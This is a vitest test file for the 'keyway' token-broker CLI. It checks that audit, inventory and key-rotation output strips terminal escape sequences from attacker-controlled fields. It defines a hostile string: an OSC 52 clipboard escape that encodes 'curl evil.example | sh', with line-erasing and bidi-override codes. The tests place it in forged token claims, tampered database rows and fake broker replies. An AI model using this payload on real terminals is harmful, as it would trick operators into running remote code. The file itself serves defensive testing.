import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { silentLogger } from '../../src/core/log.ts';
import { DATABASE_FILE, openSqliteFile } from '../../src/storage/sqlite-file.ts';
import { startNodeBroker, type NodeBroker } from '../../src/runtimes/node/start-node-broker.ts';
import { exchangeForm, freshIssuer, suitePolicies } from '../suites/exchange-suite.ts';
import { ciClaims } from '../support/test-issuer.ts';
import { testConfig, writeTree, runKeyway } from './node-harness.ts';
import { serveOnLoopback } from '../support/serve-on-loopback.ts';

const cli = runKeyway;

/** What a terminal acts on rather than shows: C0 controls but tab and newline, DEL and C1 (ESC, BEL, CSI), the bidi overrides and isolates. */
const isTerminalControl = (code: number): boolean =>
  (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069);
const terminalControls = (text: string): string[] =>
  [...text].filter((char) => isTerminalControl(char.codePointAt(0) ?? 0)).map((char) => `U+${(char.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`);

/**
 * An OSC 52 sequence (a terminal that honours it sets the clipboard to "curl evil.example | sh"), then
 * "cursor up one line, erase it": what a stranger puts in a token's `sub` to rewrite an auditor's terminal.
 */
const HOSTILE = 'x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[1A\u001b[2K\u202eevil';

const unsigned = (claims: Record<string, unknown>) =>
  `${Buffer.from(JSON.stringify({ alg: 'ES256', typ: 'JWT', kid: 'k' })).toString('base64url')}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2ln`;

describe('what the keyway CLI prints of attacker-chosen record fields', () => {
  const running: NodeBroker[] = [];
  afterEach(async () => {
    await Promise.all(running.splice(0).map((broker) => broker.close()));
  });

  async function start() {
    const github = freshIssuer(inject('testIssuerBase'), 'tty-gh');
    const policies = suitePolicies(github, freshIssuer(inject('testIssuerBase'), 'tty-oidc'));
    const root = writeTree(Object.fromEntries(Object.entries(policies).map(([path, text]) => [`policies/${path}`, text])));
    const broker = await startNodeBroker(testConfig(root), { log: silentLogger });
    running.push(broker);
    const exchange = async (form: URLSearchParams) => {
      const response = await fetch(`${broker.url}/token`, { method: 'POST', body: form });
      return (await response.json()) as Record<string, unknown>;
    };
    return { github, root, broker, exchange, dataDir: join(root, 'data') };
  }

  it('keyway audit query shows the claimed sub of a token that never verified without the escape sequences in it', async () => {
    const { exchange, dataDir } = await start();
    const now = Math.floor(Date.now() / 1000);
    // Anyone who can reach /token can put this in the log: the token need not verify for its claimed sub to be recorded.
    const refused = await exchange(exchangeForm(unsigned({ iss: 'https://nobody.example', sub: HOSTILE, aud: 'x', iat: now, exp: now + 60 })));
    expect(refused['error']).toBe('invalid_request');

    const table = await cli(['audit', 'query', '--data-dir', dataDir]);
    expect(table.code).toBe(0);
    expect(table.stdout).toContain('issuer_untrusted');
    expect(terminalControls(table.stdout)).toEqual([]);
  }, 60_000);

  it('keyway audit explain shows the audience a pipeline asked for without the escape sequences in it', async () => {
    const { github, root, broker, exchange, dataDir } = await start();
    // Any workflow whose token the issuer signs may ask for any audience: the request is refused, and recorded with its claims.
    const refused = await exchange(
      exchangeForm(await github.sign(ciClaims(github.url, broker.config.issuer)), { audience: `https://deploy.acme.dev/${HOSTILE}` }),
    );
    expect(refused['error']).toBe('invalid_target');

    const explained = await cli(['audit', 'explain', String(refused['audit_event_id']), '--data-dir', dataDir, '--policies', join(root, 'policies')], {
      KEYWAY_ISSUER: broker.config.issuer,
      KEYWAY_ALLOW_HTTP_LOOPBACK: '1',
    });
    expect(explained.code).toBe(0);
    expect(explained.stdout).toContain('request: audience https://deploy.acme.dev/');
    expect(terminalControls(explained.stdout)).toEqual([]);
  }, 60_000);

  it('keyway audit query marks a claimed sub as claimed however long it is, so it never reads as a verified subject', async () => {
    const { exchange, dataDir, github, broker } = await start();
    const victim = 'repo:acme/payments-service:environment:production:ref:refs/heads/main';
    const now = Math.floor(Date.now() / 1000);
    const forged = await exchange(exchangeForm(unsigned({ iss: 'https://nobody.example', sub: victim, aud: 'x', iat: now, exp: now + 60 })));
    const real = await exchange(exchangeForm(await github.sign(ciClaims(github.url, broker.config.issuer, { sub: victim }))));
    expect(real['access_token']).toBeTypeOf('string');

    const table = await cli(['audit', 'query', '--data-dir', dataDir, '--subject', victim]);
    expect(table.code).toBe(0);
    const row = (id: unknown) => table.stdout.split('\n').find((line) => line.endsWith(String(id))) ?? '';
    // The verified subject and the one a stranger merely claimed must not look alike.
    expect(row(forged['audit_event_id'])).toContain('claimed');
    expect(row(real['audit_event_id'])).not.toContain('claimed');
  }, 60_000);

  it('keyway audit verify names an edited record without the escape sequences its edited id holds', async () => {
    const { github, broker, exchange, dataDir } = await start();
    for (let index = 0; index < 3; index += 1) await exchange(exchangeForm(await github.sign(ciClaims(github.url, broker.config.issuer))));
    await running.splice(0)[0]?.close();
    // Whoever edits the log chooses what verify quotes of it: here an id that erases the verdict's line and writes another.
    const db = openSqliteFile(join(dataDir, DATABASE_FILE));
    const [row] = db.all<{ event: string }>('SELECT event FROM audit_events WHERE seq = 2');
    db.run('UPDATE audit_events SET event = ? WHERE seq = 2', [JSON.stringify({ ...JSON.parse(row!.event), id: `\r\u001b[2Kintact: 3 records${HOSTILE}` })]);
    db.close();

    const verified = await cli(['audit', 'verify', '--data-dir', dataDir]);
    expect(verified.code).toBe(1);
    expect(verified.stdout).toContain('TAMPERED');
    expect(terminalControls(verified.stdout)).toEqual([]);
  }, 60_000);
});

/**
 * What answers at `--url` (a hostile or compromised broker, or whatever stands in its place) chooses every text of its
 * answers: the commands print what they show of it as inert text, as `keyway tokens revoke` does.
 */
describe('what the keyway CLI prints of what a broker answered', () => {
  let broker: Awaited<ReturnType<typeof serveOnLoopback>>;
  beforeAll(async () => {
    broker = await serveOnLoopback((request) => {
      const path = new URL(request.url).pathname;
      if (path === '/v1/audit/events') {
        return Response.json({ events: [{ id: 'e1', time: 't', decision: 'denied', reason: 'no_policy_matched' }], next_cursor: HOSTILE });
      }
      if (path === '/v1/audit/stats') {
        return Response.json({ since: HOSTILE, until: HOSTILE, bucket: HOSTILE, totals: {}, series: [], by_policy: [], by_repository: [] });
      }
      if (path === '/v1/inventory') return Response.json({ since: HOSTILE, until: HOSTILE, identities: [] });
      if (path === '/v1/keys/rotate') return Response.json({ next: { kid: HOSTILE, signs_from: HOSTILE }, transitions: [] });
      return new Response(null, { status: 404 });
    });
  });
  afterAll(async () => {
    await broker?.close();
  });

  it.each([
    ['audit query', ['audit', 'query'], 'more with --cursor x'],
    ['audit stats', ['audit', 'stats'], ', per x'],
    ['inventory', ['inventory'], ': 0 identities'],
    ['keys rotate', ['keys', 'rotate'], 'rotation already under way: next key x'],
  ])(
    'keyway %s --url shows what the broker chose without the escape sequences in it',
    async (_, command, shown) => {
      const answered = await cli([...command, '--url', broker.base], { KEYWAY_TOKEN: 'operator-token' });
      expect(answered.code).toBe(0);
      expect(answered.stdout).toContain(shown);
      expect(terminalControls(answered.stdout)).toEqual([]);
    },
    60_000,
  );
});
